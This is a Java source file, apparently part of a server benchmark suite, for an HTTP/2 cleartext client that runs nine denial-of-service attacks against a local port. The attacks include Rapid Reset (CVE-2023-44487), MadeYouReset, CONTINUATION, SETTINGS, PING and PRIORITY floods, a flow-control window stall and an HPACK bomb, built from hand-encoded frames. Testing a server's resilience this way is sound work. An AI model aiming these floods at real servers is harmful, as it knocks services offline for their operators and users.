package tandem.e2e.bench;

import java.io.BufferedOutputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Locale;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.locks.LockSupport;

/**
 * A client that misuses HTTP/2 in clear text, on a few connections, for a bounded time; what a server closes is opened again. Prints
 * one line in the end. A process of its own, so that it can have another priority than who measures. Arguments: port, the mode's name,
 * seconds.
 */
final class Http2Attacker {
    private static final int CONNECTIONS = 16;
    /** Frames that make up one turn, and turns a second of each connection. */
    private static final int FRAMES = 50;

    private static final int TURNS = 20;
    private static final long AGAIN_NANOS = TimeUnit.MILLISECONDS.toNanos(50);
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    /** {@code GET /small} of localhost: three indexed fields, a path and an authority. */
    private static final byte[] SMALL = block(0x82, "/small");

    private static final byte[] LARGE = block(0x82, "/1m");
    private static final byte[] POST = block(0x83, "/small");

    /** What it does; each is an attack that servers have fallen to. */
    enum Mode {
        /** CVE-2023-44487: asks and takes it back. */
        RAPID_RESET,
        /** CVE-2025-8671: has the server take it back. */
        MADE_YOU_RESET,
        /** A head that never ends. */
        CONTINUATION_FLOOD,
        SETTINGS_FLOOD,
        PING_FLOOD,
        PRIORITY_FLOOD,
        /** A body of frames without bytes. */
        EMPTY_DATA_FLOOD,
        /** Wants a hundred megabytes and takes none. */
        WINDOW_STALL,
        /** A few bytes that stand for megabytes of fields. */
        HPACK_BOMB
    }

    private final int port;
    private final Mode mode;
    private final long endNanos;
    private final AtomicInteger opened = new AtomicInteger();
    private final AtomicInteger closed = new AtomicInteger();

    private Http2Attacker(int port, Mode mode, int seconds) {
        this.port = port;
        this.mode = mode;
        this.endNanos = System.nanoTime() + TimeUnit.SECONDS.toNanos(seconds);
    }

    public static void main(String[] args) throws InterruptedException {
        Http2Attacker attacker = new Http2Attacker(
                Integer.parseInt(args[0]), Mode.valueOf(args[1].toUpperCase(Locale.ROOT)), Integer.parseInt(args[2]));
        Thread[] threads = new Thread[CONNECTIONS];
        for (int i = 0; i < CONNECTIONS; i++) {
            threads[i] = Thread.ofVirtual().start(attacker::attack);
        }
        for (Thread thread : threads) {
            thread.join();
        }
        System.out.println("opened " + attacker.opened + " closed " + attacker.closed);
    }

    private boolean over() {
        return System.nanoTime() - endNanos >= 0;
    }

    private void attack() {
        while (!over()) {
            try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
                opened.incrementAndGet();
                Thread reader = Thread.ofVirtual().start(() -> drain(socket));
                talk(new BufferedOutputStream(socket.getOutputStream(), 1 << 16), reader);
            } catch (IOException e) {
                closed.incrementAndGet();
            }
            LockSupport.parkNanos(AGAIN_NANOS);
        }
    }

    /** Reads so that the server is never held up by us, but for the bodies that a stalled window keeps back anyway. */
    private static void drain(Socket socket) {
        byte[] bytes = new byte[1 << 14];
        try {
            InputStream in = socket.getInputStream();
            int read = in.read(bytes);
            while (read >= 0) {
                read = in.read(bytes);
            }
            socket.shutdownOutput();
        } catch (IOException e) {
            // Deliberate: the writer meets the end as well, and counts it.
        }
    }

    private void talk(OutputStream out, Thread reader) throws IOException {
        out.write(PREFACE);
        out.write(
                mode == Mode.WINDOW_STALL
                        ? frame(4, 0, 0, new byte[] {0, 4, 0, 0, 0, 0})
                        : frame(4, 0, 0, new byte[0]));
        out.write(frame(4, 1, 0, new byte[0]));
        int stream = begin(out);
        while (!over()) {
            if (!reader.isAlive()) {
                throw new IOException("closed");
            }
            stream = turn(out, stream);
            out.flush();
            LockSupport.parkNanos(TimeUnit.SECONDS.toNanos(1) / TURNS);
        }
    }

    /** What comes once; the number of the next stream. */
    private int begin(OutputStream out) throws IOException {
        switch (mode) {
            case CONTINUATION_FLOOD -> out.write(frame(1, 1, 1, SMALL));
            case EMPTY_DATA_FLOOD -> out.write(frame(1, 4, 1, POST));
            case WINDOW_STALL -> {
                for (int stream = 1; stream < 200; stream += 2) {
                    out.write(frame(1, 5, stream, LARGE));
                }
            }
            default -> {
                return 1;
            }
        }
        return 201;
    }

    private int turn(OutputStream out, int first) throws IOException {
        int stream = first;
        for (int i = 0; i < FRAMES; i++) {
            switch (mode) {
                case RAPID_RESET -> {
                    out.write(frame(1, 5, stream, SMALL));
                    out.write(frame(3, 0, stream, new byte[] {0, 0, 0, 8}));
                    stream += 2;
                }
                case MADE_YOU_RESET -> {
                    out.write(frame(1, 5, stream, SMALL));
                    out.write(frame(8, 0, stream, new byte[4]));
                    stream += 2;
                }
                case CONTINUATION_FLOOD -> out.write(frame(9, 0, 1, filler(i)));
                case SETTINGS_FLOOD -> out.write(frame(4, 0, 0, new byte[] {0, 3, 0, 0, 0, 100}));
                case PING_FLOOD -> out.write(frame(6, 0, 0, new byte[8]));
                case PRIORITY_FLOOD -> out.write(frame(2, 0, 2 * i + 1, new byte[] {0, 0, 0, 0, 15}));
                case EMPTY_DATA_FLOOD -> out.write(frame(0, 0, 1, new byte[0]));
                case WINDOW_STALL -> {
                    if (i == 0 && stream++ % TURNS == 0) {
                        out.write(frame(6, 0, 0, new byte[8]));
                    }
                }
                case HPACK_BOMB -> {
                    if (i == 0) {
                        out.write(frame(1, 5, stream, bomb()));
                        stream += 2;
                    }
                }
            }
        }
        return stream;
    }

    /** A field that is not kept, of 1 KiB. */
    private static byte[] filler(int number) {
        byte[] value = new byte[1000];
        Arrays.fill(value, (byte) 'a');
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        text(out, 0x00, "x-" + number);
        length(out, value.length);
        out.writeBytes(value);
        return out.toByteArray();
    }

    /** A field of 4,000 bytes that the table keeps, and 8,000 times one byte that means it. */
    private static byte[] bomb() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(SMALL);
        text(out, 0x40, "x-bomb");
        length(out, 4000);
        for (int i = 0; i < 4000; i++) {
            out.write('a');
        }
        for (int i = 0; i < 8000; i++) {
            out.write(0xBE);
        }
        return out.toByteArray();
    }

    private static byte[] block(int method, String path) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(method);
        out.write(0x86);
        out.write(0x04);
        length(out, path.length());
        out.writeBytes(path.getBytes(StandardCharsets.US_ASCII));
        out.write(0x01);
        length(out, "localhost".length());
        out.writeBytes("localhost".getBytes(StandardCharsets.US_ASCII));
        return out.toByteArray();
    }

    private static void text(ByteArrayOutputStream out, int first, String name) {
        out.write(first);
        length(out, name.length());
        out.writeBytes(name.getBytes(StandardCharsets.US_ASCII));
    }

    /** RFC 7541 §5.1, of seven bits, without Huffman's code. */
    private static void length(ByteArrayOutputStream out, int length) {
        if (length < 127) {
            out.write(length);
            return;
        }
        out.write(127);
        int rest = length - 127;
        while (rest >= 128) {
            out.write(rest % 128 + 128);
            rest /= 128;
        }
        out.write(rest);
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        byte[] frame = new byte[9 + payload.length];
        frame[0] = (byte) (payload.length >> 16);
        frame[1] = (byte) (payload.length >> 8);
        frame[2] = (byte) payload.length;
        frame[3] = (byte) type;
        frame[4] = (byte) flags;
        for (int i = 0; i < 4; i++) {
            frame[5 + i] = (byte) (stream >> (24 - 8 * i));
        }
        System.arraycopy(payload, 0, frame, 9, payload.length);
        return frame;
    }
}
